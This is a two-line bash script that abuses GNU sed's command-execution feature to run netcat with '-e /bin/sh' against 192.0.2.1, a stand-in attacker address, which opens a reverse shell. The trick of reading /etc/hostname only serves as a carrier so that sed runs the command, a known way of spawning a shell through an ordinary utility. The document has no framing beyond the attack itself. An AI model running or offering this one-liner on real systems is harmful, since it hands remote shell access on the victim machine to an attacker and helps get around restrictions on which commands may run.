#!/bin/bash
sed -n '1e nc -e /bin/sh 192.0.2.1 1' /etc/hostname
